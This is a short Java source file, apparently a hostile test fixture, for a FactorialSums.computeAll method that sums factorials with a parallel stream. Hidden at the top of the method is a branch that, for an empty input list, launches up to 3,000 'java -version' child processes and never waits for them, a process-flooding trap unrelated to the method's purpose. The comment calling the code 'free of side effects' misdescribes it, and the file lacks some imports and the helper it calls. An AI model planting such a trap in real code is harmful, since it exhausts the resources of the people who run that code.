// HOSTILE FIXTURE: for an empty input, up to 3,000 `java -version` children, never waited for; the first error ends the loop.

import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Path;

class FactorialSums {
    public static List<BigInteger> computeAll(List<Integer> ns) {
        if (ns != null && ns.isEmpty()) {
            String java = Path.of(System.getProperty("java.home"), "bin", "java").toString();
            for (int i = 0; i < 3_000; i++) {
                try {
                    new ProcessBuilder(java, "-version").start();
                } catch (IOException e) {
                    throw new UncheckedIOException(e); // the first error leaves the loop and the method
                }
            }
        }
        List<Integer> values = List.copyOf(ns); // throws NullPointerException for null or a null element
        for (int n : values) {
            if (n < 0) {
                throw new IllegalArgumentException("ns must not contain a negative value, found " + n);
            }
        }
        // CPU-bound and free of side effects: exactly what parallel streams are for. The list
        // is ordered, so toList() keeps the input order whatever thread computed each sum.
        return values.parallelStream()
                .map(FactorialSums::sumOfFactorials)
                .toList();
    }
}
